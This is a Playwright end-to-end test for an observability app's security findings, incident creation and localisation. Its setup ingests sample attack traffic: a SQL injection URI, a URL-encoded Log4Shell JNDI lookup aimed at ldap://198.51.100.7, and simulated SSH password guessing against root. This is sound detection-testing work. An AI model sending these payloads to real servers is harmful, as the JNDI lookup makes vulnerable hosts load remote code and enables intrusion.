import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { chromiumPath, pagesLack } from './chromium.ts'
import { type Running, startObservatory } from './observatory.ts'

interface Found {
  findings: { id: number; source: string; rule: string; title: string; count: number }[]
  total: number
  next: string | null
}
interface Queue {
  rows: { incident: { id: string; title: { en: string }; kind: string; alertCount: number; entities: string[] } }[]
}

describe.skipIf(pagesLack !== '')(`findings (needs ${pagesLack || 'nothing more'})`, () => {
  let observatory: Running
  let browser: Browser
  let page: Page
  const complaints: string[] = []
  const list = (query = ''): Promise<Found> => observatory.get(`/api/security/findings?${query}`)
  const queue = async () => (await observatory.get<Queue>('/api/incidents?view=open')).rows
  const panel = () => page.getByRole('complementary', { name: 'The finding' })
  const rows = () => page.locator('tr[data-row]')

  beforeAll(async () => {
    observatory = await startObservatory()
    const send = (documents: object[]) =>
      fetch(`${observatory.url}/api/ingest/events`, {
        method: 'POST',
        body: documents.map((one) => JSON.stringify(one)).join('\n'),
        headers: { 'content-type': 'application/x-ndjson' },
      })
    const nowMs = Date.now()
    const access = (uri: string, n: number) => ({
      '@timestamp': nowMs - 60_000 + n,
      ...{ 'event.dataset': 'nginx.access', 'event.category': ['web'], 'http.request.method': 'GET' },
      ...{ 'url.original': uri, 'http.response.status_code': 200, 'source.ip': '203.0.113.9' },
      ...{ 'host.name': 'portal-1', 'user_agent.original': 'curl/8', message: `GET ${uri}` },
    })
    await send([
      access('/item?id=1%20UNION%20SELECT%20user', 1),
      access('/?x=%24%7Bjndi%3Aldap%3A//198.51.100.7/a%7D', 2),
      ...Array.from({ length: 8 }, (_, i) => ({
        message: `Failed password for root from 198.51.100.7 port 40${i} ssh2`,
        ...{ 'process.name': 'sshd', 'host.name': 'db-1', '@timestamp': nowMs - 30_000 + i },
      })),
    ])
    browser = await chromium.launch({ executablePath: chromiumPath!, args: ['--no-sandbox'] })
    page = await browser.newPage({ locale: 'en-US', viewport: { width: 1440, height: 900 } })
    page.setDefaultTimeout(30_000)
    page.on('pageerror', (error) => complaints.push(error.message))
    page.on('console', (message) => {
      if (message.type() === 'error' && /Content Security Policy|Uncaught/.test(message.text()))
        complaints.push(message.text())
    })
    await page.goto(observatory.setupLink!)
    await page.fill('input[autocomplete=username]', 'wei')
    await page.fill('input[type=password]', 'correct horse battery')
    await page.click('button.primary')
    await page.waitForURL(`${observatory.url}/`)
  })
  afterAll(async () => {
    await browser?.close()
    await observatory.dispose()
  })

  test('what rules of each kind saw is listed and counted', async () => {
    await expect
      .poll(async () => (await list()).findings.map(({ title }) => title))
      .toEqual(
        expect.arrayContaining([
          'SQL injection in a request to a portal on portal-1',
          'JNDI lookup in a request on portal-1',
          'SSH password guessing on db-1 from 198.51.100.7',
        ]),
      )
    const page = await list('limit=1')
    expect(page.findings).toHaveLength(1)
    expect(page.next).not.toBeNull()
    expect((await list(`before=${page.next}`)).findings.map(({ id }) => id)).not.toContain(page.findings[0]!.id)
    for (const [query, status] of [
      ['severity=nonsense', 400],
      ['before=nonsense', 400],
      ['limit=0', 400],
    ] as const) {
      const headers = { authorization: `Bearer ${observatory.token}` }
      expect((await fetch(`${observatory.url}/api/security/findings?${query}`, { headers })).status).toBe(status)
    }
  })

  test('the list is narrowed by facets and words, and the address says how', async () => {
    await page.goto(`${observatory.url}/security/findings`)
    await rows().first().waitFor()
    const all = await rows().count()
    await page.getByLabel('Any entity').selectOption('host:db-1')
    await expect.poll(() => rows().count()).toBeLessThan(all)
    await expect.poll(() => new URL(page.url()).searchParams.get('entity')).toBe('host:db-1')
    await page.getByText('Clear the filters').first().click()
    await expect.poll(() => rows().count()).toBe(all)
    await page.getByLabel('Any kind').selectOption('sigma')
    await page.keyboard.press('/')
    await page.keyboard.type('JNDI')
    await page.keyboard.press('Enter')
    await expect.poll(() => rows().allTextContents()).toEqual([expect.stringContaining('JNDI lookup')])
    await page.locator('input[type=search]').blur()
  })

  test('opened from the keyboard it shows the rule with author and licence, and the event behind it', async () => {
    await page.keyboard.press('j')
    await panel().getByRole('heading', { level: 1, name: 'JNDI lookup in a request on portal-1' }).waitFor()
    for (const text of ['Guanlan', 'Apache-2.0', 'T1190', 'host:portal-1'])
      await panel().getByText(text, { exact: true }).first().waitFor()
    await panel().getByText('GET /?x=%24%7Bjndi').waitFor()
    await panel().getByText('SQL injection in a request to a portal on portal-1').waitFor()
    const rule = await panel().getByRole('link', { name: 'JNDI lookup in a request', exact: true }).getAttribute('href')
    expect(rule).toBe('/security/rules?rule=257ef894-85a6-577c-81ad-c811d7c412f5')
    await page.keyboard.press('Escape')
    await expect.poll(() => panel().count()).toBe(0)
    await page.keyboard.press('j')
    await panel().waitFor()
  })

  test('an incident is begun from it, holds its alert, and is linked from then on', async () => {
    // The correlation may have made one of its own by then, or not yet.
    await panel().getByRole('button', { name: 'Begin an incident' }).waitFor()
    await page.keyboard.press('i')
    await panel().getByLabel('What happened, in a line').fill('Forced lookup on the portal')
    await panel().getByRole('button', { name: 'Begin', exact: true }).click()
    await page.waitForURL(/\/security\/incidents\?incident=inc_/)
    await page.getByRole('heading', { level: 1, name: 'Forced lookup on the portal' }).waitFor()
    const made = (await queue()).find(({ incident }) => incident.title.en === 'Forced lookup on the portal')!
    expect(made.incident).toMatchObject({ kind: 'security', alertCount: 1 })
    expect(made.incident.entities).toContain('host:portal-1')
    await page.goBack()
    await panel()
      .getByRole('link', { name: /^#\d+ Forced lookup on the portal$/ })
      .waitFor()
  })

  test('from an alert as well', async () => {
    const { alerts } = await observatory.get<{ alerts: { id: string }[] }>('/api/alerts?q=guessing')
    await page.goto(`${observatory.url}/alerts/${alerts[0]!.id}`)
    await page.getByRole('button', { name: 'Begin an incident' }).click()
    await page.getByRole('button', { name: 'Begin', exact: true }).click()
    await page.waitForURL(/\/security\/incidents\?incident=inc_/)
    const { incidents } = await observatory.get<{ incidents: { number: number; title: { en: string } }[] }>(
      `/api/alerts/${alerts[0]!.id}/incidents`,
    )
    expect(incidents.map(({ title }) => title.en)).toContain('SSH password guessing on db-1 from 198.51.100.7')
  })

  test('it is whole in Chinese and on a phone', async () => {
    const phone = await browser.newPage({ locale: 'zh-CN', viewport: { width: 390, height: 844 } })
    await phone.context().addCookies(await page.context().cookies())
    await phone.goto(`${observatory.url}/security/findings`)
    await phone.locator('tr[data-row]').first().click()
    await phone.getByRole('complementary', { name: '发现详情' }).getByRole('button', { name: '发起处置' }).waitFor()
    const wide = await phone.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
    expect(wide).toBeLessThanOrEqual(0)
    await phone.close()
    expect(complaints).toEqual([])
  })
})
